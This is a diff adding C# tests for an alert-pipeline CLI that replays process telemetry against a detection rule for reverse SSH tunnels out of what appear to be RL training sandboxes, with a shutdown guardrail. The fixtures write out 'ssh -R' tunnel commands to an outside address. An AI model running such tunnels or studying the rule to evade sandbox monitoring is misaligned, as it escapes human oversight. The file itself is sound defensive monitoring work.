@@ -1,0 +1,135 @@
+using System.Text.Json;
+
+namespace AlertPipeline.Cli.Tests.Commands;
+
+public sealed class ReplayCommandTests : IDisposable
+{
+    private const string TunnelRule = """
+        title: Reverse SSH tunnel from a sandbox
+        id: 0b6f1e0a-6a55-4f0e-9a0e-3d1b1c2f0a01
+        status: test
+        level: critical
+        tags:
+          - attack.t1572
+        logsource:
+          product: linux
+          category: process_creation
+        detection:
+          selection:
+            process.command_line|contains: 'ssh -R'
+          condition: selection
+        """;
+
+    private readonly string _dir = Directory.CreateTempSubdirectory("alertpipe-replay-").FullName;
+
+    public void Dispose() => Directory.Delete(_dir, recursive: true);
+
+    private string Write(string relative, string content)
+    {
+        var path = Path.Combine(_dir, relative);
+        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
+        File.WriteAllText(path, content);
+        return path;
+    }
+
+    private static string ProcessStart(string time, string sandbox, string commandLine) => JsonSerializer.Serialize(new Dictionary<string, object>
+    {
+        ["@timestamp"] = time,
+        ["event"] = new { category = "process", type = "start" },
+        ["sandbox"] = new { id = sandbox },
+        ["process"] = new { command_line = commandLine, pid = 4242 },
+    });
+
+    [Fact]
+    public async Task Json_output_has_one_line_per_alert_with_the_documented_fields()
+    {
+        var rules = Write("rules/default/tunnel.yml", TunnelRule);
+        var telemetry = Write("t.jsonl", string.Join('\n',
+            ProcessStart("2025-11-14T03:20:00Z", "rl-env-7731", "ssh -R 2222:localhost:22 tunnel@203.0.113.66"),
+            ProcessStart("2025-11-14T03:20:05Z", "rl-env-7731", "ssh -fN -R 2223:localhost:22 tunnel@203.0.113.66"),
+            "{ this is not json",
+            ProcessStart("2025-11-14T03:21:00Z", "rl-env-7732", "pip install torch")));
+
+        var run = await CliRun.RunAsync("replay", telemetry, "--rules", Path.GetDirectoryName(Path.GetDirectoryName(rules))!, "--output", "json");
+
+        Assert.Equal(0, run.ExitCode);
+        var line = Assert.Single(run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries));
+        using var alert = JsonDocument.Parse(line);
+        var root = alert.RootElement;
+        Assert.Equal("0b6f1e0a-6a55-4f0e-9a0e-3d1b1c2f0a01", root.GetProperty("ruleId").GetString());
+        Assert.Equal("critical", root.GetProperty("level").GetString());
+        Assert.Equal("rl-env-7731", root.GetProperty("sandboxId").GetString());
+        Assert.Equal(2, root.GetProperty("eventCount").GetInt64());
+        Assert.Equal("2025-11-14T03:20:00.000Z", root.GetProperty("firstSeen").GetString());
+        Assert.Equal(["attack.t1572"], root.GetProperty("tags").EnumerateArray().Select(t => t.GetString()));
+        Assert.Matches("^[0-9a-f]{32}$", root.GetProperty("alertId").GetString());
+        var actions = root.GetProperty("actions").EnumerateArray().ToDictionary(a => a.GetProperty("channel").GetString()!, a => a.GetProperty("status").GetString());
+        Assert.Equal("printed", actions["email"]);
+        Assert.Equal("printed", actions["teams"]);
+        Assert.Equal("skipped", actions["shutdown"]); // no inventory: the guardrail refuses an unknown sandbox
+
+        Assert.Contains("events read: 4 (accepted 3, rejected 1)", run.Stderr);
+        Assert.Contains("rejected malformed-json: 1", run.Stderr);
+        Assert.Contains("alerts: 1 (critical 1)", run.Stderr);
+    }
+
+    [Fact]
+    public async Task Table_output_lists_alerts_and_prints_what_would_be_sent()
+    {
+        var rules = Write("rules/default/tunnel.yml", TunnelRule);
+        var inventory = Write("inventory.json", """[{"id":"rl-env-7731","team":"rl","addresses":[]}]""");
+        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:20:00Z", "rl-env-7731", "ssh -R 2222:localhost:22 tunnel@203.0.113.66"));
+
+        var run = await CliRun.RunAsync("replay", telemetry, "--rules", Path.Combine(_dir, "rules"), "--inventory", inventory);
+
+        Assert.Equal(0, run.ExitCode);
+        Assert.Contains("Reverse SSH tunnel from a sandbox", run.Stdout);
+        Assert.Contains("shutdown:printed", run.Stdout);
+        Assert.Contains("Would send", run.Stdout);
+        Assert.Contains("\"sandboxId\":\"rl-env-7731\"", run.Stdout); // the signed command itself
+        Assert.Contains("\"signature\":", run.Stdout);
+        Assert.DoesNotContain("tunnel@203.0.113.66", run.Stdout.Split("Would send")[0].Split('\n')[0]);
+    }
+
+    [Fact]
+    public async Task Replaying_the_same_file_twice_does_not_double_count()
+    {
+        Write("rules/default/tunnel.yml", TunnelRule);
+        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:20:00Z", "rl-env-7731", "ssh -R 1:localhost:22 x@203.0.113.66"));
+
+        var run = await CliRun.RunAsync("replay", telemetry, telemetry, "--rules", Path.Combine(_dir, "rules"), "--output", "json");
+
+        Assert.Equal(0, run.ExitCode);
+        using var alert = JsonDocument.Parse(run.Stdout.Trim());
+        Assert.Equal(1, alert.RootElement.GetProperty("eventCount").GetInt64());
+    }
+
+    [Fact]
+    public async Task No_alerts_is_still_a_completed_run()
+    {
+        Write("rules/default/tunnel.yml", TunnelRule);
+        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:20:00Z", "rl-env-7732", "python train.py"));
+
+        var run = await CliRun.RunAsync("replay", telemetry, "--rules", Path.Combine(_dir, "rules"));
+
+        Assert.Equal(0, run.ExitCode);
+        Assert.Contains("No alerts.", run.Stdout);
+        Assert.Contains("alerts: 0", run.Stderr);
+    }
+
+    [Theory]
+    [InlineData(new[] { "replay" }, "at least one telemetry file")]
+    [InlineData(new[] { "replay", "/nonexistent/telemetry.jsonl" }, "cannot read /nonexistent/telemetry.jsonl")]
+    [InlineData(new[] { "replay", "x.jsonl", "--output", "xml" }, "--output must be table or json")]
+    [InlineData(new[] { "replay", "x.jsonl", "--bogus" }, "unknown option --bogus")]
+    [InlineData(new[] { "replay", "x.jsonl", "--rules" }, "--rules needs a value")]
+    [InlineData(new[] { "frobnicate" }, "unknown command")]
+    public async Task Bad_arguments_exit_2_with_one_line(string[] args, string message)
+    {
+        var run = await CliRun.RunAsync(args);
+
+        Assert.Equal(2, run.ExitCode);
+        Assert.Contains(message, run.Stderr);
+        Assert.Single(run.Stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
+    }
+}
